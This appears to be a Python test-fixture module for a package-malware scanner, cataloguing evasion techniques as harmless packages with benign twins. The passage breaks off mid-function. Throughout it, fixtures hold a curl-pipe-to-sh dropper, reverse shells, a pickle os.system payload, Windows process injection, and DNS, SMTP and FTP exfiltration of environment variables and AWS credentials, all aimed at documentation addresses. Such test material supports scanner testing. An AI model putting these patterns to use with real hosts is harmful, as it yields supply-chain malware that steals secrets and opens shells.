"""The evasion catalogue: harmless packages built with the techniques real campaigns use (2022-2025) to slip
past a scanner, each placed where its code runs, with the verdict that placement deserves, and benign twins
that must stay quiet. It judges the behaviour analysis (issue 15): every cause of its "Evasions get through"
list has positives in several placements and at least one benign twin.

Nothing here is ever run; the scanner only reads the archives. Even so every fixture is harmless if run:
addresses are documentation ones (192.0.2.x, example.invalid, which never resolves), the shell line downloads
with a one-second limit from such an address (nothing answers, so the shell it pipes into gets nothing), decoded
payloads are `print('hi')`, and files other than the start-up places persistence is about do not exist.
"""

from __future__ import annotations

import base64
import enum
import marshal
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent, indent

from ..core.model import CheckError, Finding, Severity, Verdict
from ..core.policy import Policy, decide_package
from .builders import build_sdist, build_wheel

NAME, VERSION = "demo", "1.0"
SDIST_NAME = "demo-src"  # an sdist's own stray module is demo_src.py, apart from the package demo/ of the cases
DATA = f"{NAME}-{VERSION}.data/data"  # what a wheel installs under sys.prefix

# The harmless stand-ins for what real samples do.
DROPPER = "curl -s -m 1 http://192.0.2.1/p | sh"  # download-and-run from a documentation address: nothing answers
PAYLOAD_URL = "http://192.0.2.1/p"
COLLECT_URL = "https://example.invalid/collect"
EXTRA_URL = "http://192.0.2.1/extra-1.0.tar.gz"
PRINT_HI = "print('hi')"
HI = base64.b64encode(PRINT_HI.encode()).decode()
HI_MARSHAL = base64.b64encode(marshal.dumps(compile(PRINT_HI, "<demo>", "exec"))).decode()
HI_XOR = [b ^ 0x2A for b in PRINT_HI.encode()]
HI_ROT13 = "cevag('uv')"
# A protocol-0 pickle whose reduce step calls os.system(DROPPER) when loaded: the classic pickle payload.
PICKLED = f"cos\nsystem\n(S'{DROPPER}'\ntR.".encode()
RC_LINE = f"{DROPPER}  # demo\n"  # what persistence writes where a shell or a scheduler reads it


class Cause(enum.Enum):
    """The issue's bullets: why an evasion got through the name-matching rules."""

    ALIAS = ("alias", "a module or function bound to a variable")
    COMPUTED = ("computed-name", "names computed at run time (getattr, __import__, builtins, importlib, operator)")
    DECODER = ("exec-from-decoder", "exec one step away from the decoder; exec of a literal; NFKC identifiers")
    RUNNER = ("unknown-runner", "calls the rules do not know (ctypes, posix_spawn, exec*, pickle, injection)")
    NETWORK = ("unknown-network", "network clients the rules do not know (vendored, openers, sockets, DNS, SMTP, FTP)")
    STEALER = ("stealer-in-pieces", "stealers with split strings, screen, clipboard, keyboard, persistence")
    PTH = ("pth-reading", ".pth lines the target Python's site.py reads differently than a scanner")
    PLACEMENT = ("hidden-placement", "install, import or start-up code outside setup.py and module level")

    def __init__(self, slug: str, bullet: str) -> None:
        self.slug, self.bullet = slug, bullet


class Placement(enum.Enum):
    """Where a case's code sits, when that code runs, and which kind of archive carries it."""

    SETUP_PY = ("setup.py", "install", "sdist")
    INIT = ("__init__.py", "import", "wheel")
    PTH = (".pth", "startup", "wheel")
    LIBRARY = ("library", "library", "wheel")  # a function nobody calls on import
    SETUP_HELPER = ("setup.py helper", "install", "sdist")  # a file setup.py imports (from a dir it adds to sys.path) or execs
    SETUP_CALLS_PACKAGE = ("setup.py -> package", "install", "sdist")  # a function of the package setup.py calls
    BACKEND = ("build backend", "install", "sdist")  # an in-tree backend below the backend-path
    BUILD_HOOK = ("build hook", "install", "sdist")  # a hatch hook at a path pyproject.toml names
    ATTR_VERSION = ("version = attr:", "install", "sdist")  # setuptools imports the module to read the version
    CMDCLASS_CONFIG = ("cmdclass in config", "install", "sdist")  # setup.cfg or pyproject.toml names the class
    CALLED_AT_IMPORT = ("called at import", "import", "wheel")  # a function module-level code calls
    DECORATOR = ("decorator", "import", "wheel")
    CLASS_BODY = ("class body", "import", "wheel")  # incl. metaclasses and __init_subclass__
    KERNELSPEC = ("kernelspec", "startup", "wheel")  # share/jupyter/kernels/*/kernel.json: every kernel start
    SERVER_EXTENSION = ("server extension", "startup", "wheel")  # etc/jupyter/*_config.d/*.json: every server start
    IPYTHON_STARTUP = ("IPython start-up", "startup", "wheel")  # etc/ipython config: every IPython or kernel start

    def __init__(self, label: str, runs: str, archive: str) -> None:
        self.label, self.runs, self.archive = label, runs, archive


class Expect(enum.Enum):
    """The verdict a case deserves under the default policy."""

    BLOCK = "block"  # a malicious flow that runs at install, import or start-up
    FLAG = "warn or block"  # the same in library code of a young or unknown project
    ALLOW = "allow"  # a benign twin: nothing at medium or above


@dataclass(frozen=True)
class Case:
    """One harmless package of the catalogue."""

    id: str
    cause: Cause
    technique: str  # one line
    placement: Placement
    files: Mapping[str, str]  # path inside the archive (below an sdist's top directory) -> text
    expect: Expect

    @property
    def benign(self) -> bool:
        return self.expect is Expect.ALLOW


@dataclass(frozen=True)
class Outcome:
    """What the scan of one case came to under the default policy."""

    case: Case
    verdict: Verdict
    worst: Severity
    met: bool

    @property
    def caught(self) -> bool:
        """A positive warned on or blocked (whatever its placement deserves)."""
        return not self.case.benign and self.verdict >= Verdict.WARN


def build(case: Case, directory: Path) -> Path:
    """The case's archive, written into `directory` with the fixture builders."""
    files = dict(case.files)
    if case.placement.archive == "sdist":
        setup_py = files.pop("setup.py", MINIMAL_SETUP)
        return build_sdist(directory, SDIST_NAME, VERSION, setup_py=setup_py, files=files)
    return build_wheel(directory, NAME, VERSION, files=files)


def judge(case: Case, findings: Sequence[Finding], errors: Sequence[CheckError] = ()) -> Outcome:
    """The default policy's verdict on a case's findings, and whether it is what the case deserves."""
    verdict = decide_package(Policy(), None, NAME, tuple(findings), tuple(errors)).verdict
    wanted = {Expect.BLOCK: Verdict.BLOCK, Expect.FLAG: Verdict.WARN, Expect.ALLOW: Verdict.ALLOW}[case.expect]
    met = verdict is Verdict.ALLOW if case.benign else verdict >= wanted
    return Outcome(case, verdict, max((f.severity for f in findings), default=Severity.INFO), met)


# --- placing code ---------------------------------------------------------------------------------------------

MINIMAL_SETUP = "from setuptools import setup\n\nsetup()\n"
SETUP_CALL = "\nfrom setuptools import setup\n\nsetup(name='demo', version='1.0', packages=['demo'])\n"
PACKAGE_DOC = '"""A demo package."""\n'


def _code(text: str) -> str:
    return dedent(text).lstrip("\n")


def _in_function(code: str, name: str = "sync") -> str:
    """Module-level code as the body of a library function nobody calls (its leading imports stay on top)."""
    lines = code.splitlines(keepends=True)
    head = 0
    while head < len(lines) and lines[head].startswith(("import ", "from ")):
        head += 1
    return "".join(lines[:head]) + f"\n\ndef {name}():\n" + indent("".join(lines[head:]).lstrip("\n"), "    ")


def _library(module: str) -> dict[str, str]:
    return {"demo/__init__.py": PACKAGE_DOC, "demo/tools.py": module}


def _placed(placement: Placement, code: str) -> dict[str, str]:
    if placement is Placement.SETUP_PY:
        return {"setup.py": code + SETUP_CALL}
    if placement.runs == "import":
        return {"demo/__init__.py": code}
    if placement is Placement.LIBRARY:
        return _library(_in_function(code))
    if placement is Placement.PTH:
        return {"demo/__init__.py": PACKAGE_DOC, "demo_hook.pth": code}
    raise ValueError(f"place {placement.label} code explicitly")


def _expect(placement: Placement) -> Expect:
    return Expect.FLAG if placement.runs == "library" else Expect.BLOCK


S, I, L, P = Placement.SETUP_PY, Placement.INIT, Placement.LIBRARY, Placement.PTH
SLUG = {S: "setup", I: "init", L: "library", P: "pth"}
_CASES: list[Case] = []


def _each(case_id: str, cause: Cause, technique: str, code: str, placements: Sequence[Placement],
          pth: str | None = None) -> None:
    """One technique in several placements; `pth` is its one-line form for a .pth file."""
    code = _code(code)
    for placement in placements:
        text = pth + "\n" if placement is P and pth is not None else code
        if placement is P and pth is None:
            raise ValueError(f"{case_id}: a .pth placement needs its one-line form")
        _CASES.append(Case(f"{case_id}-{SLUG[placement]}", cause, technique, placement, _placed(placement, text),
                                _expect(placement)))


def _one(case_id: str, cause: Cause, technique: str, placement: Placement, files: Mapping[str, str]) -> None:
    _CASES.append(Case(case_id, cause, technique, placement,
                            {path: _code(text) for path, text in files.items()}, _expect(placement)))


def _twin(case_id: str, cause: Cause, technique: str, placement: Placement, files: Mapping[str, str] | str) -> None:
    """A benign twin: what legitimate packages do that looks like the technique."""
    if isinstance(files, str):
        text = _code(files)
        files = _library(text) if placement is L else _placed(placement, text)
    else:
        files = {path: _code(text) for path, text in files.items()}
    _CASES.append(Case(case_id, cause, technique, placement, files, Expect.ALLOW))


# --- a module or function bound to a variable ---------------------------------------------------------------

A = Cause.ALIAS
_each("alias-module", A, "a module bound to a variable runs a download-and-run shell line", f"""
    import os
    o = os
    o.system({DROPPER!r})
    """, (S, I, P), pth=f"import os; o = os; o.system({DROPPER!r})")
_each("alias-function", A, "urlopen bound to a variable fetches code that exec runs", f"""
    import urllib.request
    fetch = urllib.request.urlopen
    exec(fetch({PAYLOAD_URL!r}).read())
    """, (I, L))
_each("alias-from-import-as", A, "from os import system as s", f"""
    from os import system as s
    s({DROPPER!r})
    """, (S,))
_each("alias-instance-attribute", A, "subprocess.call stored on an object and called as its method", f"""
    import subprocess


    class Runner:
        pass


    runner = Runner()
    runner.go = subprocess.call
    runner.go({DROPPER!r}, shell=True)
    """, (I,))
_each("alias-exec", A, "exec bound to another name runs decoded code", f"""
    import base64
    run = exec
    run(base64.b64decode({HI!r}))
    """, (I,))
_each("alias-default-argument", A, "os.system as a parameter's default value", f"""
    import os


    def refresh(command, runner=os.system):
        return runner(command)


    refresh({DROPPER!r})
    """, (L,))
_each("alias-session-method", A, "a Session's post bound to a variable sends the environment", f"""
    import os
    import requests
    send = requests.Session().post
    send({COLLECT_URL!r}, data=dict(os.environ))
    """, (L,))
_one("alias-across-modules", A, "os.system re-exported under another name by a module of the package", I, {
    "demo/__init__.py": f"from ._compat import run_command\n\nrun_command({DROPPER!r})\n",
    "demo/_compat.py": "from os import system as run_command  # noqa: F401\n"})
_twin("own-function-named-compile", A, "a module defines its own compile() and exports it under a second name", I, """
    def compile(pattern, flags=0):
        return (pattern, flags)


    Regex = compile
    """)
_twin("alias-logger", A, "a logger method bound to a short name", I, """
    import logging
    log = logging.getLogger(__name__).info
    log('demo ready')
    """)
_twin("alias-cli-runner", A, "a CLI keeps subprocess.run under a short name and runs make", L, """
    import subprocess
    run = subprocess.run


    def build(targets):
        return run(['make', *targets], check=True)
    """)
_twin("alias-os-path-in-setup", A, "setup.py binds os.path to p to read its README", S, """
    import os
    p = os.path
    HERE = p.dirname(p.abspath(__file__))
    with open(p.join(HERE, 'README.md'), encoding='utf-8') as handle:
        LONG_DESCRIPTION = handle.read()
    """)

# --- names computed at run time -------------------------------------------------------------------------------

C = Cause.COMPUTED
_each("getattr-concat", C, "getattr(os, 'sys' + 'tem')", f"""
    import os
    getattr(os, 'sys' + 'tem')({DROPPER!r})
    """, (I,))
_each("dunder-import-concat", C, "__import__('o' + 's').system", f"""
    __import__('o' + 's').system({DROPPER!r})
    """, (S,))
_each("globals-builtins", C, "globals()['__builtins__']['ex' + 'ec'] runs decoded code", f"""
    import base64
    globals()['__builtins__']['ex' + 'ec'](base64.b64decode({HI!r}))
    """, (I,))
_each("vars-builtins", C, "vars(builtins)['ex' + 'ec']", f"""
    import base64
    import builtins
    vars(builtins)['ex' + 'ec'](base64.b64decode({HI!r}))
    """, (L,))
_each("sys-modules-builtins", C, "sys.modules['builtins'].exec", f"""
    import base64
    import sys
    sys.modules['builtins'].exec(base64.b64decode({HI!r}))
    """, (S,))
_each("importlib-computed", C, "importlib.import_module('built' + 'ins').exec", f"""
    import base64
    import importlib
    importlib.import_module('built' + 'ins').exec(base64.b64decode({HI!r}))
    """, (I,))
_each("methodcaller", C, "operator.methodcaller('sys' + 'tem', command)(os)", f"""
    import operator
    import os
    operator.methodcaller('sys' + 'tem', {DROPPER!r})(os)
    """, (I,))
_each("dunder-call-exec", C, "exec.__call__ of decoded code", f"""
    import base64
    exec.__call__(base64.b64decode({HI!r}))
    """, (I,))
_each("getattribute", C, "os.__getattribute__('sys' + 'tem')", f"""
    import os
    os.__getattribute__('sys' + 'tem')({DROPPER!r})
    """, (L,))
_each("getattr-reversed", C, "getattr(os, 'metsys'[::-1])", f"""
    import os
    getattr(os, 'metsys'[::-1])({DROPPER!r})
    """, (S,))
_each("getattr-chr-codes", C, "the name spelled as character codes", f"""
    import os
    getattr(os, ''.join(chr(c) for c in (115, 121, 115, 116, 101, 109)))({DROPPER!r})
    """, (I,))
_each("fromhex-names", C, "module and function names from bytes.fromhex", f"""
    getattr(__import__(bytes.fromhex('6f73').decode()), bytes.fromhex('73797374656d').decode())({DROPPER!r})
    """, (I,))
_each("module-dict", C, "os.__dict__['sys' + 'tem']", f"""
    import os
    os.__dict__['sys' + 'tem']({DROPPER!r})
    """, (I, P), pth=f"import os; os.__dict__['sys' + 'tem']({DROPPER!r})")
_each("computed-urlopen", C, "urlopen reached by a computed name, its response executed", f"""
    import urllib.request
    exec(getattr(urllib.request, 'url' + 'open')({PAYLOAD_URL!r}).read())
    """, (I,))
_each("base64-names", C, "module and function names decoded from base64", f"""
    import base64
    module = __import__(base64.b64decode('b3M=').decode())
    getattr(module, base64.b64decode('c3lzdGVt').decode())({DROPPER!r})
    """, (I,))
_each("names-through-parameters", C, "module and function names handed to a helper that looks them up", f"""
    def _call(module, name, *args):
        return getattr(__import__(module), name)(*args)


    _call('o' + 's', 'sys' + 'tem', {DROPPER!r})
    """, (S,))
_twin("plugin-loader", C, "a plugin loader imports the modules its entry points name", I, """
    import importlib
    from importlib.metadata import entry_points
    PLUGINS = [importlib.import_module(ep.module) for ep in entry_points(group='demo.plugins')]
    """)
_twin("lazy-submodules", C, "a module __getattr__ imports submodules by computed name on first use", I, """
    import importlib

    _SUBMODULES = {'io', 'plot', 'stats'}


    def __getattr__(name):
        if name in _SUBMODULES:
            return importlib.import_module('.' + name, __name__)
        raise AttributeError(name)
    """)
_twin("getattr-dispatch", C, "handlers looked up as 'on_' + kind on the package's own class", L, """
    class Handlers:
        @staticmethod
        def on_start(payload):
            return {'started': payload}

        @staticmethod
        def on_stop(payload):
            return {'stopped': payload}


    def handle(kind, payload):
        return getattr(Handlers, 'on_' + kind)(payload)
    """)
_twin("computed-harmless-name", C, "setup.py reaches sysconfig.get_platform by a computed name", S, """
    import sysconfig
    PLATFORM = getattr(sysconfig, 'get_' + 'platform')()
    """)

# --- exec one step away from the decoder ----------------------------------------------------------------------

D = Cause.DECODER
_each("helper-decoder", D, "the decoder behind a helper function, exec of its result", f"""
    import base64


    def unpack(blob):
        return base64.b64decode(blob)


    exec(unpack({HI!r}))
    """, (S, I))
_each("lambda-runner", D, "exec inside a lambda, the decoded code its parameter", f"""
    import base64
    run = lambda code: exec(code)
    run(base64.b64decode({HI!r}))
    """, (I,))
_CHUNKS = ", ".join(repr(HI[i:i + 4]) for i in range(0, len(HI), 4))
_each("chunked-base64", D, "base64 kept in 4-character chunks, joined before decoding", f"""
    import base64
    PARTS = [{_CHUNKS}]
    exec(base64.b64decode(''.join(PARTS)))
    """, (S,))
_one("cross-module-decoder-init", D, "data in one module, decoder and exec in another, called on import", I, {
    "demo/__init__.py": "from .run import go\n\ngo()\n",
    "demo/blob.py": f"DATA = {HI!r}\n",
    "demo/run.py": """
        import base64

        from .blob import DATA


        def go():
            exec(base64.b64decode(DATA))
        """})
_one("cross-module-decoder-library", D, "data in one module, decoder and exec in another module's function", L, {
    "demo/__init__.py": PACKAGE_DOC,
    "demo/blob.py": f"DATA = {HI!r}\n",
    "demo/run.py": """
        import base64

        from . import blob


        def go():
            exec(base64.b64decode(blob.DATA))
        """})
_each("exec-literal", D, "exec of a plain string literal that runs a shell line", f"""
    exec("import os\\nos.system({DROPPER!r})")
    """, (I,))
_NFKC_EXEC = "\U0001d68e\U0001d6a1\U0001d68e\U0001d68c"  # mathematical monospace 'exec'
_FULLWIDTH_SYSTEM = "\uff53\uff59\uff53\uff54\uff45\uff4d"  # fullwidth 'system'
_each("nfkc-exec", D, "exec spelled in mathematical letters, which Python reads as exec", f"""
    import base64
    {_NFKC_EXEC}(base64.b64decode({HI!r}))
    """, (I,))
_each("nfkc-attribute", D, "os.system spelled in fullwidth letters", f"""
    import os
    os.{_FULLWIDTH_SYSTEM}({DROPPER!r})
    """, (S,))
_each("marshal-code-object", D, "a marshalled code object, decoded and executed", f"""
    import base64
    import marshal
    exec(marshal.loads(base64.b64decode({HI_MARSHAL!r})))
    """, (I,))
_each("reversed-base64", D, "base64 stored reversed, turned round before decoding", f"""
    import base64
    BLOB = {HI[::-1]!r}
    exec(base64.b64decode(BLOB[::-1]))
    """, (I,))
_each("rot13-code", D, "code in rot13, decoded with codecs, then exec", f"""
    import codecs
    exec(codecs.decode({HI_ROT13!r}, 'rot13'))
    """, (L,))
_one("decode-in-init-exec-in-method", D, "one method decodes into an attribute, another executes it", I, {
    "demo/__init__.py": f"""
        import base64


        class Loader:
            def __init__(self):
                self.code = base64.b64decode({HI!r})

            def run(self):
                exec(self.code)


        Loader().run()
        """})
_each("xor-decoder", D, "a one-byte XOR decoder written in the package", f"""
    DATA = bytes({HI_XOR!r})
    exec(bytes(b ^ 0x2A for b in DATA))
    """, (S,))
_each("decoded-to-file-runpy", D, "decoded code written to a file that runpy then runs", f"""
    import base64
    import runpy
    PATH = '/nonexistent/demo/boot.py'
    with open(PATH, 'w') as handle:
        handle.write(base64.b64decode({HI!r}).decode())
    runpy.run_path(PATH)
    """, (I,))
_INNER = "import base64; exec(base64.b64decode(%r))" % HI
_each("two-layers", D, "decoded code that itself decodes and executes the payload", f"""
    import base64
    exec(base64.b64decode({base64.b64encode(_INNER.encode()).decode()!r}))
    """, (L,))
_twin("decodes-data-not-code", D, "a package decodes an embedded asset (data, never executed)", I, f"""
    import base64
    LOGO = base64.b64decode({HI!r})
    """)
_twin("imports-in-reverse-order", D, "module names taken from a list in reverse order and imported with exec", I, """
    NAMESPACES = ['math', 'cmath']
    _loaded = {}
    for _name in NAMESPACES[::-1]:
        exec('import %s as _m' % _name, {}, _loaded)
    """)
_twin("xor-masked-asset", D, "an embedded icon unmasked with a one-byte XOR on import (data, never executed)", I, """
    MASKED = bytes([0x23, 0x7A, 0x64, 0x6D, 0x27, 0x20])
    ICON = bytes(b ^ 0x2A for b in MASKED)
    """)
_twin("runner-as-default-argument", A, "a CLI helper takes its runner as a parameter, subprocess.run by default", L, """
    import subprocess


    def git(args, runner=subprocess.run):
        return runner(['git', *args], check=True)
    """)
_twin("decoded-config-to-a-tool", D, "an embedded config decoded to a file that a tool reads with --config", L, """
    import base64
    import subprocess
    CONFIG = 'W3Rvb2xdCmxldmVsID0gMgo='


    def lint(path='/nonexistent/demo/tool.ini'):
        with open(path, 'w') as handle:
            handle.write(base64.b64decode(CONFIG).decode())
        return subprocess.run(['ruff', '--config', path, '.'])
    """)
_twin("six-style-exec", D, "exec of a literal that defines a helper (six.reraise)", I, """
    exec('def reraise(tp, value, tb=None):\\n    raise value')
    """)
_twin("code-generation", D, "a record class generated from a template with exec (namedtuple-style)", L, """
    def make_record(name, fields):
        source = 'class {0}(tuple):\\n    __slots__ = ()\\n    _fields = {1!r}\\n'.format(name, tuple(fields))
        namespace = {}
        exec(source, namespace)
        return namespace[name]
    """)
_twin("decoder-helper-for-config", D, "a helper decodes embedded JSON defaults", I, f"""
    import base64
    import json


    def unpack(blob):
        return base64.b64decode(blob)


    DEFAULTS = json.loads(unpack({base64.b64encode(b'{"theme": "dark"}').decode()!r}))
    """)
_twin("unicode-math-names", D, "non-ASCII identifiers in a maths helper", L, """
    def area(r):
        \u03c0 = 3.141592653589793
        return \u03c0 * r * r
    """)

# --- calls the rules do not know ------------------------------------------------------------------------------

R = Cause.RUNNER
_each("ctypes-libc-system", R, "ctypes CDLL('libc.so.6').system", f"""
    import ctypes
    ctypes.CDLL('libc.so.6').system({DROPPER.encode()!r})
    """, (I,))
_each("ctypes-find-library", R, "libc found with ctypes.util.find_library, its system() called", f"""
    import ctypes
    import ctypes.util
    libc = ctypes.CDLL(ctypes.util.find_library('c'))
    libc.system({DROPPER.encode()!r})
    """, (S,))
_each("posix-spawnp", R, "os.posix_spawnp of sh -c", f"""
    import os
    os.posix_spawnp('sh', ['sh', '-c', {DROPPER!r}], os.environ)
    """, (S,))
_each("execvpe", R, "os.execvpe replaces the process with sh -c", f"""
    import os
    os.execvpe('sh', ['sh', '-c', {DROPPER!r}], dict(os.environ))
    """, (L,))
_each("pickle-reduce", R, "pickle.loads of a reduce payload written in the code", f"""
    import pickle
    pickle.loads({PICKLED!r})
    """, (I,))
_each("yaml-apply", R, "yaml.unsafe_load of !!python/object/apply:os.system", f"""
    import yaml
    yaml.unsafe_load("!!python/object/apply:os.system [{DROPPER!r}]")
    """, (I,))
_INJECT = """
    import ctypes
    SHELLCODE = b'\\x90\\x90\\xc3'
    k = ctypes.windll.kernel32
    p = k.VirtualAllocEx(-1, 0, len(SHELLCODE), 0x3000, 0x40)
    k.WriteProcessMemory(-1, p, SHELLCODE, len(SHELLCODE), 0)
    k.CreateRemoteThread(-1, 0, 0, p, 0, 0, 0)
    """
_each("win-injection", R, "WriteProcessMemory and CreateRemoteThread through ctypes.windll", _INJECT, (L,))
_each("win-injection-computed", R, "the injection calls looked up by computed names on kernel32", """
    import ctypes
    SHELLCODE = b'\\x90\\x90\\xc3'
    k = ctypes.windll.kernel32
    p = getattr(k, 'Virtual' + 'AllocEx')(-1, 0, len(SHELLCODE), 0x3000, 0x40)
    getattr(k, 'Write' + 'ProcessMemory')(-1, p, SHELLCODE, len(SHELLCODE), 0)
    getattr(k, 'Create' + 'RemoteThread')(-1, 0, 0, p, 0, 0, 0)
    """, (I,))
_each("thread-target", R, "os.system handed to a Thread as its target", f"""
    import os
    import threading
    threading.Thread(target=os.system, args=({DROPPER!r},), daemon=True).start()
    """, (S,))
_each("atexit-register", R, "os.system registered to run when the interpreter exits", f"""
    import atexit
    import os
    atexit.register(os.system, {DROPPER!r})
    """, (I,))
_each("timeit-runs-code", R, "timeit.timeit runs decoded code as its statement", f"""
    import base64
    import timeit
    timeit.timeit(base64.b64decode({HI!r}).decode(), number=1)
    """, (I,))
_each("code-interpreter", R, "code.InteractiveInterpreter().runsource of decoded code", f"""
    import base64
    import code
    code.InteractiveInterpreter().runsource(base64.b64decode({HI!r}).decode())
    """, (L,))
_each("functools-partial", R, "os.system wrapped in functools.partial, called later", f"""
    import functools
    import os
    refresh = functools.partial(os.system, {DROPPER!r})
    refresh()
    """, (S,))
_twin("atexit-temp-dir-and-worker-thread", R, "a temporary directory removed at exit, a worker thread started on import", I, """
    import atexit
    import shutil
    import tempfile
    import threading
    _TMP = tempfile.mkdtemp(prefix='demo-')
    atexit.register(shutil.rmtree, _TMP, ignore_errors=True)


    def _poll():
        return len(threading.enumerate())


    threading.Thread(target=_poll, daemon=True).start()
    """)
_twin("yaml-config-and-timeit", R, "settings read with yaml.safe_load on import; a benchmark helper uses timeit", I, """
    import os
    import timeit
    import yaml
    SETTINGS = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), 'settings.yaml')))


    def bench():
        return timeit.timeit('sum(range(100))', number=100)
    """)
_twin("cli-runs-a-program", R, "a CLI runs git in a library function", L, """
    import subprocess


    def run(args):
        return subprocess.run(['git', *args], check=True)
    """)
_twin("git-describe-in-setup", R, "setup.py takes its version from git describe", S, {"setup.py": """
    import subprocess

    from setuptools import setup

    version = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()
    setup(name='demo', version=version)
    """})
_twin("ctypes-own-library", R, "ctypes loads the package's own shared library and calls a function", L, """
    import ctypes
    import os

    _LIB = os.path.join(os.path.dirname(__file__), '_fast.so')


    def add(a, b):
        return ctypes.CDLL(_LIB).demo_add(a, b)
    """)
_twin("pickle-cache", R, "a cache loads its own pickle file", L, """
    import os
    import pickle

    CACHE = os.path.expanduser('~/.cache/demo/index.pkl')


    def load():
        with open(CACHE, 'rb') as handle:
            return pickle.load(handle)
    """)
_twin("atexit-cleanup", R, "atexit flushes the logs", I, """
    import atexit
    import logging
    atexit.register(logging.shutdown)
    """)
_twin("thread-poller", R, "a client polls in a background thread", L, """
    import threading
    import time


    class Poller:
        def __init__(self, fetch):
            self.fetch = fetch

        def _loop(self):
            while True:
                self.fetch()
                time.sleep(60)

        def start(self):
            threading.Thread(target=self._loop, daemon=True).start()
    """)
_twin("main-guard", R, "a module runs make only when run as a script", I, """
    import subprocess
    if __name__ == '__main__':
        subprocess.run(['make', 'docs'])
    """)
_each("program-written-and-run", R, "a program kept as text, written to a temp file and run with this Python", f"""
    import os
    import sys
    import tempfile
    PROGRAM = b"import os; os.system({DROPPER!r})"
    handle = tempfile.NamedTemporaryFile(suffix='.py', delete=False)
    handle.write(PROGRAM)
    handle.close()
    os.system(f'{{sys.executable}} {{handle.name}}')
    """, (S, I, L))
_each("program-written-runpy", R, "a downloader kept as text, written with pathlib and run with runpy", f"""
    import pathlib
    import runpy
    import tempfile
    BOOT = pathlib.Path(tempfile.gettempdir()) / 'demo_boot.py'
    BOOT.write_text("from urllib.request import urlopen\\nexec(urlopen({PAYLOAD_URL!r}, timeout=1).read())\\n")
    runpy.run_path(str(BOOT))
    """, (S, I))
_twin("probe-script-run", R, "a library writes a probe script and runs it with this Python to read a setting", L, """
    import subprocess
    import sys
    import tempfile
    PROBE = "import sys; print(sys.maxsize > 2 ** 32)"


    def is_64bit():
        with tempfile.NamedTemporaryFile('w', suffix='.py', delete=False) as handle:
            handle.write(PROBE)
        return subprocess.check_output([sys.executable, handle.name], text=True).strip() == 'True'
    """)
_each("reverse-shell-dup2", R, "a socket's descriptor duplicated onto stdin/stdout, then a shell spawned", """
    import os
    import pty
    import socket
    conn = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    conn.settimeout(1)
    conn.connect(('192.0.2.1', 4444))
    for stream in (0, 1, 2):
        os.dup2(conn.fileno(), stream)
    pty.spawn('sh')
    """, (S, I, L))
_each("reverse-shell-streams", R, "a shell started with a connection as its stdin, stdout and stderr", """
    import socket
    import subprocess
    link = socket.create_connection(('192.0.2.1', 4444), timeout=1)
    subprocess.call(['/bin/sh', '-i'], stdin=link.fileno(), stdout=link.fileno(), stderr=link.fileno())
    """, (I, L))
_twin("log-redirect-dup2", R, "a daemon points its stdout at a log file with os.dup2 and starts a worker", L, """
    import os
    import subprocess


    def daemonize(log_path):
        with open(log_path, 'a') as log:
            os.dup2(log.fileno(), 1)
            os.dup2(log.fileno(), 2)
        subprocess.Popen(['demo-worker', '--serve'])
    """)
_twin("terminal-pty", R, "a terminal widget spawns a shell on a pseudo-terminal", L, """
    import pty


    def open_terminal():
        return pty.fork()
    """)

# --- network clients the rules do not know --------------------------------------------------------------------

N = Cause.NETWORK
_each("vendored-requests", N, "pip._vendor.requests fetches code that exec runs", f"""
    from pip._vendor import requests
    exec(requests.get({PAYLOAD_URL!r}).text)
    """, (I,))
_each("vendored-urllib3", N, "pip._vendor.urllib3 PoolManager fetches code that exec runs", f"""
    from pip._vendor import urllib3
    exec(urllib3.PoolManager().request('GET', {PAYLOAD_URL!r}).data)
    """, (I,))
_each("build-opener", N, "urllib.request.build_opener().open, the response executed", f"""
    import urllib.request
    exec(urllib.request.build_opener().open({PAYLOAD_URL!r}).read())
    """, (S,))
_each("socket-exec", N, "a raw socket receives code that exec runs", """
    import socket
    s = socket.create_connection(('192.0.2.1', 4444))
    exec(s.recv(65536))
    """, (I,))
_each("asyncio-connection-exec", N, "asyncio.open_connection reads code that exec runs", """
    import asyncio


    async def _fetch():
        reader, writer = await asyncio.open_connection('192.0.2.1', 4444)
        exec(await reader.read())


    asyncio.run(_fetch())
    """, (I,))
_each("dns-gethostbyname", N, "the environment put into a host name that gethostbyname looks up", """
    import os
    import socket
    socket.gethostbyname(str(os.environ.copy())[:40] + '.example.invalid')
    """, (I,))
_each("dns-getaddrinfo-hex", N, "the environment hex-encoded into labels that getaddrinfo looks up", """
    import binascii
    import os
    import socket
    blob = binascii.hexlify(str(dict(os.environ)).encode()).decode()
    for i in range(0, len(blob), 60):
        socket.getaddrinfo(blob[i:i + 60] + '.example.invalid', 53)
    """, (L,))
_each("dns-resolver-credentials", N, "AWS credentials sent as queries to the sender's own name server (dnspython)", """
    import os
    import dns.resolver
    resolver = dns.resolver.Resolver(configure=False)
    resolver.nameservers = ['192.0.2.53']
    key = open(os.path.expanduser('~/.aws/credentials')).read().encode().hex()
    for i in range(0, len(key), 50):
        resolver.resolve(key[i:i + 50] + '.example.invalid', 'A')
    """, (L,))
_each("dns-txt-exec", N, "code fetched from a TXT record of the sender's own name server and executed", """
    import base64
    import dns.resolver
    resolver = dns.resolver.Resolver(configure=False)
    resolver.nameservers = ['192.0.2.53']
    answer = resolver.resolve('p.example.invalid', 'TXT')
    exec(base64.b64decode(b''.join(answer[0].strings)))
    """, (I,))
_each("smtp-environ", N, "smtplib mails the environment", """
    import os
    import smtplib
    smtplib.SMTP('192.0.2.1').sendmail('a@example.invalid', ['b@example.invalid'], str(dict(os.environ)))
    """, (I,))
_each("ftp-environ", N, "ftplib uploads the environment", """
    import io
    import os
    import ftplib
    ftp = ftplib.FTP('192.0.2.1')
    ftp.login()
    ftp.storbinary('STOR env.txt', io.BytesIO(str(dict(os.environ)).encode()))
    """, (S,))
_each("http-client-post-env", N, "http.client posts the environment as JSON", """
    import http.client
    import json
    import os
    connection = http.client.HTTPSConnection('example.invalid')
    connection.request('POST', '/collect', body=json.dumps(dict(os.environ)))
    """, (L,))
_each("tls-socket-exec", N, "a TLS-wrapped socket receives code that exec runs", """
    import socket
    import ssl
    raw = socket.create_connection(('192.0.2.1', 443))
    tls = ssl.create_default_context().wrap_socket(raw, server_hostname='example.invalid')
    exec(tls.recv(65536))
    """, (L,))
_twin("asyncio-client", N, "an asyncio client reads a JSON reply from a socket", L, """
    import asyncio
    import json


    async def status(host, port):
        reader, writer = await asyncio.open_connection(host, port)
        writer.write(b'STATUS\\n')
